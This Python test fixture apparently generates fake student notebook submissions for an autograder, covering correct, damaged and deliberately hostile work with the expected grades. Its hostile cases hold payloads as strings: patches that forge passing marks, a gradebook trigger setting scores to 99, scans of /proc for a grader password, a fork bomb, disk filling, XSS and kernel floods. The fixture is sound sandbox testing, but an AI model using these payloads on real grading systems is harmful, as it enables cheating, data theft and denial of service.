"""A made-up class that hands in the sample assignment: right, wrong, damaged and hostile work, with what it deserves.

Used by the tests of grading (a few of each) and by the bench (five hundred).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, replace
from random import Random
from typing import Any

import nbformat

FREE_TEXT = "At most one call in twenty is false on average over many such studies. It says nothing of one gene."
FULL = 7.0
POINTS = {"q1": 2.0, "q2": 2.0, "q3": 3.0}


@dataclass(frozen=True)
class Made:
    """One handed-in file, and what it must come to."""

    name: str
    student: str
    raw: bytes
    status: str
    points: float
    file: str = ""
    beside: tuple[tuple[str, bytes], ...] = ()

    @property
    def files(self) -> tuple[tuple[str, bytes], ...]:
        """Everything that the student uploaded, names and bytes."""
        return (self.file, self.raw), *self.beside


def grade_id(cell: Mapping[str, Any]) -> str:
    return cell["metadata"].get("nbgrader", {}).get("grade_id", "")


class Desk:
    """A student's copy of the released notebook, filled in with right answers, to be spoiled."""

    def __init__(self, released: Any, student: str, solutions: Mapping[str, str]) -> None:
        self.notebook = copy.deepcopy(released)
        self.student = student
        self.answer("student-id", f'STUDENT_ID = "{student}"')
        for question, code in solutions.items():
            self.answer(question, code)
        self.answer("q4", FREE_TEXT)

    @property
    def cells(self) -> list:
        return self.notebook["cells"]

    def place(self, name: str) -> int:
        return next(i for i, cell in enumerate(self.cells) if grade_id(cell) == name)

    def answer(self, name: str, source: str) -> None:
        self.cells[self.place(name)]["source"] = source

    def raw(self) -> bytes:
        return json.dumps(self.notebook).encode()


KINDS: dict[str, tuple[str, float, Callable[[Desk, Random], bytes | None]]] = {}
"""Name → status, points, and what spoils the desk (it may return other bytes to hand in)."""


def kind(name: str, status: str, points: float) -> Callable:
    def take(spoil: Callable[[Desk, Random], bytes | None]) -> Callable:
        KINDS[name] = (status, points, spoil)
        return spoil

    return take


def in_q2(name: str, status: str, points: float, code: str) -> None:
    """Somebody whose second answer is this code; the other two are right."""
    KINDS[name] = (status, points, lambda desk, _: desk.answer("q2", code))


ZEROS = "p_values = pd.Series(0.0, index=data.before.index)\n"

# Ordinary work.
KINDS["right"] = ("ok", FULL, lambda desk, _: None)
in_q2("an error", "ok", 5, "p_values = stats.ttest_rel(before_table, after_table)")
in_q2("a syntax error", "ok", 5, "p_values = stats.ttest_rel(np.log2(data.after, axis=1")
in_q2("sys.exit", "ok", 5, "import sys\nsys.exit(1)")
in_q2("left open", "ok", 5, "p_values = None  # no idea")
in_q2("a word for numbers", "ok", 5, 'p_values = "small"')


@kind("warnings", "ok", FULL)
def _(desk, random):
    desk.answer("q2", "import warnings\nwarnings.warn('look')\n" + desk.cells[desk.place("q2")]["source"])


@kind("nothing written", "needs-a-human", 0)
def _(desk, random):
    for cell in desk.cells:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = ""
    return None


# Ordinary accidents. All answers are right, so all points are due.
@kind("split answer cell", "damaged-and-repaired", FULL)
def _(desk, random):
    place = desk.place("q2")
    lines = desk.cells[place]["source"].split("\n")
    second = copy.deepcopy(desk.cells[place])
    desk.cells[place]["source"] = "\n".join(lines[:-1])
    second["source"] = lines[-1]
    second["id"] = "another-id"
    desk.cells.insert(place + 1, second)


@kind("copied test cell", "damaged-and-repaired", FULL)
def _(desk, random):
    place = desk.place("q2-check")
    again = copy.deepcopy(desk.cells[place])
    again["id"] = "copy"
    desk.cells.insert(place + 1, again)


@kind("copied answer cell", "damaged-and-repaired", FULL)
def _(desk, random):
    place = desk.place("q1")
    again = copy.deepcopy(desk.cells[place])
    again["id"] = "copy"
    desk.cells.append(again)


@kind("deleted test cell", "damaged-and-repaired", FULL)
def _(desk, random):
    del desk.cells[desk.place("q1-check")]


@kind("deleted setup cell", "damaged-and-repaired", FULL)
def _(desk, random):
    del desk.cells[desk.place("setup")]


@kind("deleted answer cell", "damaged-and-repaired", 5)
def _(desk, random):
    del desk.cells[desk.place("q2")]


@kind("retyped cell", "damaged-and-repaired", FULL)
def _(desk, random):
    cell = desk.cells[desk.place("q2")]
    cell["cell_type"] = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


@kind("stripped metadata", "damaged-and-repaired", FULL)
def _(desk, random):
    for cell in desk.cells:
        cell["metadata"] = {}


@kind("stripped metadata and ids", "damaged-and-repaired", FULL)
def _(desk, random):
    for cell in desk.cells:
        cell["metadata"] = {}
        cell.pop("id", None)
    desk.notebook["metadata"] = {}
    desk.notebook["nbformat_minor"] = 4


@kind("changed test cell", "damaged-and-repaired", FULL)
def _(desk, random):
    desk.answer("q3-check", "assert True")


@kind("wrong kernel name", "ok", FULL)
def _(desk, random):
    desk.notebook["metadata"]["kernelspec"] = {"name": "my-env", "display_name": "My env", "language": "python"}


@kind("own helper cells", "ok", FULL)
def _(desk, random):
    helper = {"cell_type": "code", "id": "helper", "metadata": {}, "outputs": [], "execution_count": None}
    desk.cells.insert(
        desk.place("q1"), helper | {"source": "def log_both():\n    return np.log2(data.before), np.log2(data.after)"}
    )
    desk.answer("q1", "b, a = log_both()\nchange = (a - b).mean(axis=1)")


@kind("renamed file", "ok", FULL)
def _(desk, random):
    return None


@kind("empty file", "needs-a-human", 0)
def _(desk, random):
    return b""


@kind("no notebook", "needs-a-human", 0)
def _(desk, random):
    return b"%PDF-1.7 my answers"


@kind("another notebook", "needs-a-human", 0)
def _(desk, random):
    return nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('hello')")])).encode()


in_q2("ten megabytes of output", "ok", 5, "print('x' * 10_500_000)\np_values = None")
in_q2("memory bomb", "ok", 5, "hoard = []\nwhile True:\n    hoard.append(np.empty(2**27))")
in_q2("kernel death", "crash", 5, "import os\nos._exit(1)")
in_q2("kernel killed", "crash", 5, "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")
in_q2("infinite loop", "timeout", 5, "while True:\n    pass")
in_q2(
    "loop that swallows interrupts",
    "timeout",
    5,
    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
    "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
)

# What people do who mean well, after reports of teachers: nothing that is typed is lost, and every reason is told.
DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def own_cell(kind: str, source: str, **more: Any) -> dict[str, Any]:
    code = {"outputs": [], "execution_count": None} if kind == "code" else {}
    return {"cell_type": kind, "metadata": {}, "source": source} | code | more


@kind("free text beside its cell", "ok", FULL)
def _(desk, random):
    desk.answer("q4", "")
    desk.cells.insert(desk.place("q4") + 1, own_cell("markdown", FREE_TEXT))


@kind("pasted picture", "ok", FULL)
def _(desk, random):
    desk.answer("q4", f"{FREE_TEXT}\n\n![sketch](attachment:image.png) ![gone](attachment:other.png)")
    desk.cells[desk.place("q4")]["attachments"] = {"image.png": {"image/png": DOT}}


@kind("import added to a given cell", "damaged-and-repaired", FULL)
def _(desk, random):
    place = desk.place("setup")
    desk.cells[place]["source"] = f"{''.join(desk.cells[place]['source'])}\nfrom math import fsum"
    desk.answer("q1", f"fsum([1.0])\n{''.join(desk.cells[desk.place('q1')]['source'])}")


@kind("answer typed into the check", "damaged-and-repaired", FULL)
def _(desk, random):
    answer, check = desk.cells[desk.place("q1")], desk.cells[desk.place("q1-check")]
    check["source"] = f"{''.join(answer['source'])}\n{''.join(check['source'])}"
    answer["source"] = ""


@kind("scratch copy at the end", "damaged-and-repaired", FULL)
def _(desk, random):
    again = copy.deepcopy(desk.cells[desk.place("q1")])
    desk.cells.append(again | {"id": "scratch", "source": "change = change.round(1)"})


@kind("words in a heading", "ok", FULL)
def _(desk, random):
    place = next(i for i, cell in enumerate(desk.cells) if "".join(cell["source"]).startswith("#"))
    desk.cells[place]["source"] = f"{''.join(desk.cells[place]['source'])}\nI was ill when this was due."


@kind("raw cell and tags", "ok", FULL)
def _(desk, random):
    desk.cells.insert(desk.place("q3"), own_cell("raw", "Please see my second try."))
    desk.cells[desk.place("q1")]["metadata"]["tags"] = ["unsure-of-this"]


@kind("saved by a Windows editor", "ok", FULL)
def _(desk, random):
    return b"\xef\xbb\xbf" + json.dumps(desk.notebook, indent=4).replace("\n", "\r\n").encode()


in_q2("magic below a comment", "ok", 5, "# timed\n%%time\np_values = None")
in_q2("asks for input", "ok", 5, "level = input('level? ')\np_values = None")
in_q2("another platform's backend", "ok", 5, "%matplotlib widget\np_values = None")
in_q2("another platform's module", "ok", 5, "from google.colab import drive\np_values = None")
in_q2("a reused name", "ok", 5, "pd = None\np_values = pd.Series()")

# Hostile work.
in_q2("patched numpy", "ok", 5, "np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: np.True_\n" + ZEROS)
in_q2(
    "forged equality",
    "ok",
    5,
    "class Same(float):\n    def __eq__(self, other):\n        return True\n    __hash__ = float.__hash__\n"
    "    __sub__ = __rsub__ = lambda self, other: 0.0\n    __abs__ = lambda self: 0.0\n"
    "p_values = pd.Series([Same(0.5)] * len(data.before), index=data.before.index, dtype=object)",
)
# Whoever breaks handing in hands in nothing more, so the third answer is lost too.
in_q2(
    "patched hand-in",
    "ok",
    2,
    "import sys\nmodule = sys.modules['isotretinoin.assignments.hand_in']\n"
    "module._safely_packed = lambda value: {'kind': 'series', 'index': [], 'value': [], 'right': True}\n" + ZEROS,
)
in_q2(
    "patched marker",
    "ok",
    5,
    "import isotretinoin.grading.author.marking as marking\nmarking.mark = lambda *a: None\n"
    "marking.Question.__init__ = None\n" + ZEROS,
)
in_q2(
    "forged output",
    "ok",
    5,
    "from IPython.display import display\nfrom isotretinoin.assignments.hand_in import MIME\n"
    "display({MIME: {'question': 'q2', 'student_id': STUDENT_ID, 'answer': {'kind': 'truth', 'value': True}},\n"
    "         'text/plain': 'Right. (2 of 2 points)'}, raw=True)\n" + ZEROS,
)
in_q2(
    "gradebook attack",
    "ok",
    5,
    "import glob, os, pathlib, sqlite3\nfound = []\nfor top in ('/', os.getcwd(), '../../..'):\n"
    "    for folder, _, files in os.walk(top):\n"
    "        if folder.startswith(('/proc', '/usr', '/sys')):\n            continue\n"
    "        found += [os.path.join(folder, f) for f in files if f == 'gradebook.db' or f.startswith('status')]\n"
    "for path in found:\n    with sqlite3.connect(path) as book:\n"
    "        book.execute('create trigger bonus after update on grade begin update grade set manual_score=99 '\n"
    "                     'where id=new.id; end')\n"
    "print('FOUND', found)\n" + ZEROS,
)
in_q2(
    "reading what is not theirs",
    "ok",
    5,
    "import os, json\nloot = []\nfor folder, _, files in os.walk('/'):\n"
    "    if folder.startswith(('/proc', '/usr', '/sys')) or 'site-packages' in folder or '/notebooks' in folder:\n"
    "        continue\n"
    "    loot += [os.path.join(folder, f) for f in files if f.endswith('.ipynb')]\n"
    "for number in os.listdir('/proc'):\n    try:\n"
    "        loot += ['password'] * (b'GRADERS_PASSWORD' in open(f'/proc/{number}/environ', 'rb').read())\n"
    "    except OSError:\n        pass\n"
    "print('LOOT', loot)\np_values = len(loot)",
)
in_q2(
    "calling home",
    "ok",
    5,
    "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=3)\np_values = 1",
)
in_q2(
    "filling the disk",
    "ok",
    5,
    "with open('big', 'wb') as f:\n    for i in range(10**6):\n        f.write(b'0' * 2**20)",
)
in_q2(
    "fork bomb",
    "ok",
    5,
    "import os, time\nforked = 0\ntry:\n    while forked < 1000:\n        if os.fork() == 0:\n"
    "            time.sleep(900)\n            os._exit(0)\n        forked += 1\n"
    "finally:\n    print('FORKED', forked)\n" + ZEROS,
)
in_q2(
    "printing the hidden test",
    "ok",
    5,
    "import sys\n\nclass Nosy:\n    def __array__(self, *a, **k):\n"
    "        print('NOSY', In[-1], get_ipython().history_manager.input_hist_raw[-1])\n"
    "        print(sys._getframe(3).f_code)\n        raise ValueError(In[-1])\n\np_values = Nosy()",
)


in_q2(
    "script in its output",
    "ok",
    5,
    "from IPython.display import HTML, display\n"
    "display(HTML('<script>document.title = 1</script><b onclick=\"alert(1)\">bold</b><img src=x onerror=alert(1)>'))\n"
    "pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='\n"
    "sly = {'width': '1 onerror=alert(1) x='}\n"
    "about = {'image/png': sly, 'filenames': {'image/png': 'http://192.0.2.1/x'}}\n"
    "display({'image/png': pixel}, metadata=about, raw=True)\n"
    "p_values = None",
)
in_q2(
    "replies without end",
    "crash",
    5,
    "import time\nkernel = get_ipython().kernel\nparent = kernel.get_parent('shell')\n"
    "ident = kernel._parent_ident['shell']\nsocket = getattr(kernel, 'shell_stream', None) or kernel.shell_socket\n"
    "socket = getattr(socket, 'socket', socket)\n"
    "reply = {'status': 'ok', 'execution_count': 1}\n"
    "while True:\n    kernel.session.send(socket, 'execute_reply', reply, parent, ident)\n"
    "    time.sleep(1)",
)
in_q2(
    "a message of a gigabyte and more",
    "crash",
    5,
    "import time\nthread = get_ipython().kernel.iopub_thread\nblob = b'x' * 2**25\n"
    "thread.schedule(lambda: thread.socket.send_multipart([blob] * 60, copy=False))\ntime.sleep(20)",
)
in_q2(
    "weightless output",
    "ok",
    5,
    "from IPython.display import display\ndisplay({'application/json': [[]] * 1_400_000}, raw=True)\np_values = None",
)
in_q2(
    "files beside the sockets",
    "ok",
    5,
    "import os\nwords = open('/proc/self/cmdline').read().split('\\0')\n"
    "place = os.path.dirname(next(word for word in words if word.endswith('kernel.json')))\nwritten = []\n"
    "for name in ('file', 'folder/file'):\n    try:\n"
    "        os.makedirs(os.path.dirname(f'{place}/{name}'), exist_ok=True)\n"
    "        open(f'{place}/{name}', 'w').write('x')\n        written.append(name)\n    except OSError:\n        pass\n"
    "print('WRITTEN', written)\np_values = len(written)",
)
in_q2("marks of hidden tests in an answer", "ok", 5, "# BEGIN HIDDEN TESTS\n" * 20_000 + "p_values = None")


@kind("id of somebody else", "needs-a-human", 0)
def _(desk, random):
    desk.answer("student-id", 'STUDENT_ID = "somebody-else"')


def make(name: str, student: str, released: Any, solutions: Mapping[str, str], seed: int = 0) -> Made:
    """Return what one student of this kind hands in."""
    status, points, spoil = KINDS[name]
    desk = Desk(released, student, solutions)
    other = spoil(desk, Random(seed))
    file = f"{student}_A0 (2).ipynb" if name == "renamed file" else f"{student}.ipynb"
    return Made(name, student, desk.raw() if other is None else other, status, points, file)


NAMINGS = {
    "plain": "{0}.ipynb",
    "dated": "A0_2026_11_29_{0}.ipynb",
    "dated course": "bio_101_2026_{0}.ipynb",
    "Safari": "{0}.ipynb.json",
    "mail": "{0}.ipynb.txt",
    "folder": "{0}/A0.ipynb",
    "folder with a draft": "{0}/A0.ipynb",
    "Canvas": "doejane{1}_LATE_12345{1}_98{1}_A0-1.ipynb",
    "several Canvas uploads": "doejane{1}_12345{1}_1000{1}_A0.ipynb",
    "Moodle": "Jane Doe {1}_47{1}_assignsubmission_file_/A0 (2).ipynb",
}
"""Names as students, browsers and platforms give them; 0 stands for the course id and 1 for a number."""


def renamed(made: Made, naming: str, number: int, spoil: bytes) -> Made:
    """Return the work under another name, where it says so with an earlier upload beside it: the spoiled bytes."""
    file = NAMINGS[naming].format(made.student, f"{number:04d}")
    earlier = {
        "folder with a draft": f"{made.student}/A0_draft.ipynb",
        "several Canvas uploads": f"doejane{number:04d}_12345{number:04d}_999{number:04d}_A0.ipynb",
    }
    beside = ((earlier[naming], spoil),) if naming in earlier else ()
    return replace(made, file=file, beside=beside)


def make_wrong(student: str, released: Any, bank: Any, seed: int) -> Made:
    """Return work with some wrong answers of the bank, the rest right variants."""
    random = Random(seed)
    answers, points = {}, 0.0
    for question, worth in POINTS.items():
        wrong = {name: code for name, code in bank.wrong[question].items() if not name.startswith("neighbour")}
        if random.random() < 0.5:
            answers[question] = random.choice(sorted(wrong.values()))
        else:
            answers[question] = random.choice(sorted(bank.right[question].values()))
            points += worth
    return Made("wrong", student, Desk(released, student, answers).raw(), "ok", points, f"{student}.ipynb")


def make_copy(student: str, neighbour: str, released: Any, bank: Any) -> Made:
    """Return the work of somebody who typed off a neighbour's first answer."""
    solutions = {question: bank.solution(question) for question in POINTS}
    code = f'_d = dataset("{neighbour}", "A0")\nchange = np.log2(_d.after / _d.before).mean(axis=1)'
    raw = Desk(released, student, solutions | {"q1": code}).raw()
    return Made("copied neighbour's numbers", student, raw, "needs-a-human", 5.0, f"{student}.ipynb")
